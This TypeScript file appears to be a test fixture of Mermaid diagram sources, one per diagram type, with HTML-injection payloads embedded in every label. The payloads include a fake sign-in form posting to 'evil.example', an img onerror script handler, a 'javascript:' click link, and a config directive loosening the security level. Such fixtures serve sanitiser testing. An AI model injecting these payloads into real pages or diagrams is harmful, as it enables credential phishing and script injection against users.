// One diagram of each kind that Mermaid draws, with a form where its words are.

/** Words, and what a writer may hide in them to ask readers for something or to be called by their browsers. */
const FORM = "<form action='https://evil.example'><input name='p'/><button>Sign in</button></form>"
const PICTURE = "<img src='https://evil.example/a.png' onerror='document.title=1'/>"
const BAD = `Words ${FORM}${PICTURE}`
/** For places where the grammar ends at a colon. */
const WORDS_ONLY = 'Words <form><input name=p><button>Sign in</button></form>'

export const DIAGRAMS: Readonly<Record<string, string>> = {
  flowchart: `flowchart LR\n  A["${BAD}"] -->|"${BAD}"| B["\`**Words** ${FORM}\`"]\n  subgraph S["${BAD}"]\n    C\n  end\n  click A "javascript:alert(1)" "${BAD}"`,
  'flowchart that asks for HTML': `%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}, "securityLevel": "loose"}}%%\nflowchart LR\n  A["${BAD}"]`,
  sequence: `sequenceDiagram\n  participant A as ${BAD}\n  A->>B: ${BAD}\n  Note over A: ${BAD}\n  link A: Words @ https://a.example`,
  class: `classDiagram\n  class A["${BAD}"]\n  A : +words() string\n  A --> B : ${WORDS_ONLY}\n  note "${BAD}"`,
  state: `stateDiagram-v2\n  state "${BAD}" as A\n  A --> B : ${WORDS_ONLY}`,
  er: `erDiagram\n  A ||--o{ B : "${BAD}"\n  A {\n    string name "${BAD}"\n  }`,
  journey: `journey\n  title ${BAD}\n  section Words\n    ${WORDS_ONLY}: 5: Me`,
  gantt: `gantt\n  title ${BAD}\n  dateFormat YYYY-MM-DD\n  section ${BAD}\n  ${BAD.replaceAll(':', '')} :a1, 2026-01-01, 3d`,
  pie: `pie title ${BAD}\n  "${BAD}" : 4\n  "Other" : 6`,
  quadrant: `quadrantChart\n  title "${BAD}"\n  x-axis "${BAD}" --> High\n  quadrant-1 "${BAD}"\n  A: [0.3, 0.6]`,
  requirement: `requirementDiagram\n  requirement words {\n    id: 1\n    text: "${BAD}"\n    risk: high\n    verifymethod: test\n  }`,
  git: `gitGraph\n  commit id: "${BAD}" tag: "${BAD}"\n  branch other\n  commit`,
  c4: `C4Context\n  title ${BAD}\n  Person(a, "${BAD}", "${BAD}")\n  System(b, "Words")\n  Rel(a, b, "${BAD}")`,
  mindmap: `mindmap\n  root["${BAD}"]\n    Child["${BAD}"]`,
  timeline: `timeline\n  title ${BAD.replaceAll(':', '')}\n  2026 : ${BAD.replaceAll(':', '')}`,
  sankey: `sankey-beta\n"${BAD}",B,10\nB,C,5`,
  xychart: `xychart-beta\n  title "${BAD}"\n  x-axis ["${BAD}", b]\n  bar [1, 2]`,
  block: `block-beta\n  a["${BAD}"] b`,
  packet: `packet-beta\n  title Words\n  0-15: "${BAD}"`,
  kanban: `kanban\n  todo[Words ${FORM}]\n    a[${BAD}]`,
  architecture: `architecture-beta\n  group g(cloud)[Words]\n  service s(server)[Words] in g\n  service t "${BAD}"[Words]`,
  radar: `radar-beta\n  title ${BAD}\n  axis a["${BAD}"], b["B"], c["C"]\n  curve x["${BAD}"]{1, 2, 3}`,
  treemap: `treemap-beta\n"${BAD}"\n  "Words": 10`,
  venn: `venn-beta\n  title ${BAD}\n  set A["${BAD}"]\n  set B["Words"]\n  union A,B["${BAD}"]`,
  ishikawa: `ishikawa-beta\n  ${BAD}\n    Words\n      ${BAD}`,
  eventmodeling: 'eventmodeling\n  tf 01 ui Words { "a": "<form action=https://evil.example><input></form>" }',
}
